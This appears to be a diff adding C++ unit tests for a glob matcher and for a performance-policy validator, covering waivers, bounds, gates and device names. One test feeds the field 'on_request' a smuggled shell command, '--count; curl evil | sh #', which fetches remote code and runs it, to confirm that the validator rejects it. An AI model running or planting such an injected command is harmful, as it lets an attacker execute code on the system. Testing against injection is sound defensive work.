@@ -43,6 +43,53 @@ TEST(Glob, TwoStarsCrossSegments) {
   EXPECT_FALSE(matches_glob("toy/**/f32", "toy/step/n:64/f64"));
 }
 
+// Tries every length of each star.
+bool matches_by_trying(std::string_view pattern, std::string_view text) {
+  if (pattern.empty()) return text.empty();
+  const std::size_t stars = pattern.starts_with("**") ? 2 : pattern.starts_with('*') ? 1 : 0;
+  if (stars == 0)
+    return text.starts_with(pattern.front()) &&
+           matches_by_trying(pattern.substr(1), text.substr(1));
+  for (std::size_t taken = 0;; ++taken) {
+    if (matches_by_trying(pattern.substr(stars), text.substr(taken))) return true;
+    if (taken == text.size() || (stars == 1 && text[taken] == '/')) return false;
+  }
+}
+
+std::vector<std::string> texts_of(const std::string& letters, std::size_t longest) {
+  std::vector<std::string> words = {""};
+  for (std::size_t begin = 0, length = 0; length < longest; ++length)
+    for (const std::size_t end = words.size(); begin < end; ++begin)
+      for (const char letter : letters) words.push_back(words[begin] + letter);
+  return words;
+}
+
+TEST(Glob, MatchesWhatSomeLengthsOfItsStarsMatch) {
+  const std::vector<std::string> texts = texts_of("ab/", 5);
+  for (const std::string& pattern : texts_of("a/*", 6))
+    for (const std::string& text : texts)
+      if (matches_glob(pattern, text) != matches_by_trying(pattern, text))
+        ADD_FAILURE() << pattern << " on " << text;
+}
+
+TEST(Glob, OfManyStarsTakesNoLongerThanItsTextIs) {
+  std::string pattern;
+  for (int i = 0; i < 130; ++i) pattern += "**a";
+  EXPECT_FALSE(matches_glob(pattern + "b", std::string(400, 'a')));
+  EXPECT_TRUE(matches_glob(pattern, std::string(400, 'a')));
+}
+
+TEST(Policy, APatternIsNoLongerThanAnId) {
+  const auto with_match = [](std::size_t length) {
+    return toy::policy_with("\"rules\": [",
+                            "\"rules\": [{\"match\": \"" + std::string(length, '*') +
+                                "\", \"metric\": \"launches\", \"gate\": \"warn\"},");
+  };
+  EXPECT_NO_THROW((void)toy::policy(with_match(400)));
+  EXPECT_THAT(toy::complaint([&] { return toy::policy(with_match(401)); }),
+              HasSubstr("is longer than any id, which has 400 bytes at most"));
+}
+
 TEST(Policy, AMetricHasTheGateOfItsKind) {
   const Standard launches = of(with(""), "launches");
   EXPECT_EQ(launches.kind, "exact");
@@ -110,6 +157,8 @@ TEST(Policy, AMetricMayHaveTolerancesOfItsOwn) {
 
 TEST(Policy, AMetricOnRequestNamesTheOptionThatAsksForIt) {
   EXPECT_EQ(of(with_more(R"("on_request": "--count")"), "launches").on_request, "--count");
+  EXPECT_THAT([] { (void)with_more(R"("on_request": "--count; curl evil | sh #")"); },
+              ThrowsMessage<Error>(HasSubstr("'on_request' is the option of holdfast run")));
   EXPECT_THAT([] { (void)with_more(R"("on_request": "count")"); },
               ThrowsMessage<Error>(HasSubstr("is the option of holdfast run")));
 }
@@ -279,11 +328,92 @@ TEST(Policy, ADeviceThatNoClassIsCalledLikeMatchesNothing) {
           .check_against({list}, true);
     });
   };
-  for (const char* none : {"host", "hosts-*", "h200", "gpu-*", "nvidea-*", "cuda-dry-90"})
+  for (const char* none : {"host", "hosts-*", "h200", "gpu-*", "nvidea-*", "cuda-dry-90", "host-",
+                           "host-x86_64-v4", "nvidia-", "cuda-dry-sm_"})
     EXPECT_THAT(complaint(none), HasSubstr(text("matches nothing: no suite lists toy/step/** on ",
                                                 none, " with the metric launches")));
   for (const char* one : {"*-2t", "n*", "nvidia-b300", "cuda-dry-sm_120", "host-x86_64-v5-*"})
     EXPECT_EQ(complaint(one), "accepted") << "a machine that nobody has yet";
+}
+
+// What check_against says of the toy's policy with these rules and waivers.
+std::string complaint_of(const std::string& rules, const std::string& waivers = "") {
+  return toy::complaint([&] { with(rules, waivers).check_against({toy::list()}, true); });
+}
+
+TEST(Policy, AGateAndAToleranceOfWhatOnlyBoundsJudgeAreErrors) {
+  List list = toy::list();
+  for (ListedCase& listed : list.cases) listed.devices["host"].push_back("floor_fraction");
+  const auto complaint = [&](const std::string& said) {
+    return toy::complaint([&] {
+      with(R"({"match": "toy/**", "metric": "floor_fraction", )" + said + "}")
+          .check_against({list}, true);
+    });
+  };
+  const std::string bound = R"("bound": {"min": 0.1, "source": "s"})";
+  for (const char* gate : {"block", "warn", "off"})
+    EXPECT_THAT(complaint(text(R"("gate": ")", gate, '"')),
+                HasSubstr(": the gate of this rule holds nothing: no floor_fraction that it "
+                          "matches is held against an accepted value, only against bounds; mend"));
+  EXPECT_THAT(complaint(R"("tolerance": 0.1)"), HasSubstr("the tolerance of this rule holds noth"));
+  EXPECT_THAT(complaint(R"("tolerance": 0.1, )" + bound), HasSubstr("the tolerance of this rule"));
+  EXPECT_EQ(complaint(bound), "accepted");
+  EXPECT_EQ(complaint(R"("gate": "warn", )" + bound), "accepted");
+}
+
+TEST(Policy, ABoundOnTextIsAnErrorAlsoWithinASum) {
+  const auto bound = [](const char* metric) {
+    return complaint_of(text(R"({"match": "toy/**", "metric": ")", metric,
+                             R"(", "bound": {"max": 9, "source": "s"}})"));
+  };
+  for (const char* metric : {"identity", "launches+identity", "identity+launches"})
+    EXPECT_THAT(bound(metric), HasSubstr("holds nothing: identity is text, which has no bound"));
+  EXPECT_EQ(bound("launches+peak_bytes"), "accepted");
+  EXPECT_THAT(complaint_of(R"({"match": "toy/**", "metric": "identity", "tolerance": 0.1})"),
+              HasSubstr("identity is text, which has no tolerance"));
+  EXPECT_EQ(complaint_of(R"({"match": "toy/**", "metric": "identity", "gate": "block"})"),
+            "accepted");
+}
+
+TEST(Policy, AWaiverOfASumThatNoRuleBoundsIsAnError) {
+  const auto waived = [](const char* rules_variant, const char* sum, const char* more) {
+    return complaint_of(
+        text(R"({"match": "toy/step/**", )", rules_variant,
+             R"("metric": "launches+peak_bytes", "bound": {"max": 9, "source": "s"}})"),
+        text(R"({"metric": ")", sum, R"(", "until": "2026-11-21", "why": "known", )", more, "}"));
+  };
+  const char *step = R"("match": "toy/step/**")", *sum = "launches+peak_bytes";
+  EXPECT_EQ(waived("", sum, step), "accepted");
+  EXPECT_THAT(
+      waived("", "peak_bytes+launches", step),
+      HasSubstr(": this waiver excuses nothing: no rule bounds the sum peak_bytes+launches, "
+                "but one bounds launches+peak_bytes; mend or remove it"));
+  EXPECT_THAT(waived("", "launches+registers_max", step),
+              HasSubstr("no rule bounds the sum launches+registers_max there"));
+  EXPECT_THAT(waived("", sum, R"("match": "toy/sum/**")"), HasSubstr("excuses nothing"));
+  EXPECT_THAT(waived(R"("variant": "optimized", )", sum,
+                     R"("match": "toy/step/**", "variant": "reference")"),
+              HasSubstr("excuses nothing"));
+}
+
+TEST(Policy, ARowThatHoldsNothingIsAnError) {
+  const auto complaint = [](const std::string& row) {
+    return toy::complaint([&] {
+      toy::policy(toy::policy_with(R"("metrics": {)", R"("metrics": {)" + row + ", "))
+          .check_against({toy::list()}, true);
+    });
+  };
+  EXPECT_THAT(complaint(R"("launches": {"fall_is_change": ["peak_bytes", "peek_bytes"]})"),
+              HasSubstr(": 'fall_is_change' of launches names peek_bytes, a metric that no suite"));
+  EXPECT_EQ(complaint(R"("launches": {"fall_is_change": ["peak_bytes"]})"), "accepted");
+  EXPECT_EQ(complaint(R"("launches": {"fall_is_change": ["*"]})"), "accepted");
+  EXPECT_THAT(
+      toy::complaint([] {
+        toy::policy(
+            toy::policy_with(R"({"impossible_above")", R"({"gate": "block", "impossible_above")"))
+            .check_against({toy::list()}, true);
+      }),
+      HasSubstr(": the row of floor_fraction holds nothing: no suite holds the metric against"));
 }
 
 TEST(Policy, ARemovalAndAnAbsenceNameADeviceThatThereCanBe) {
@@ -293,6 +423,13 @@ TEST(Policy, ARemovalAndAnAbsenceNameADeviceThatThereCanBe) {
        R"("absent": [{"metric": "*", "device": "cuda*", "reason": "CUPTI", "why": "none"}], )"})
     EXPECT_THAT([&] { with_more("", spoken).check_against({toy::list()}, true); },
                 ThrowsMessage<Error>(HasSubstr("no GPU's class begins with cuda")));
+  EXPECT_THAT(
+      [] {
+        with_more("", R"("absent": [{"metric": "*", "device": "h200", "reason": "CUPTI",
+                                     "why": "none"}], )")
+            .check_against({toy::list()}, true);
+      },
+      ThrowsMessage<Error>(HasSubstr("no class is called like the device 'h200', but as host-")));
 }
 
 TEST(Policy, RulesForSuitesThatAreNotHereAreLeftAloneUnlessAllListsAre) {
